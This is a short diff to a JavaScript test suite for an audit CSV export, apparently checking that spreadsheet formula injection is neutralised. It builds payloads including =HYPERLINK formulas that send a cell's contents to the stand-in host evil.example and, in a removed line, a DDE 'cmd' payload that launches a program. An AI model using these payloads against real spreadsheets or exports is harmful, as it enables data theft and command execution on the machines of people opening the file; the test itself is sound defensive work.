@@ -28,7 +28,8 @@ describe('the audit CSV', () => {
     const tag = randomUUID().slice(0, 8);
     const email = `=HYPERLINK("http://evil.example/${tag}","open")@evil.example`;
     const userAgent = `=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")`;
-    const requestId = `@SUM(1+1)*cmd|'/C calc'!A0-${tag}`;
+    // A request id may only hold id characters, and those still make a formula.
+    const requestId = `=2+5+cmd:calc@A0-${tag}`;
     const failed = await api.request('/api/admin/session', {
       method: 'POST',
       body: { email, password: 'wrong password 1' },
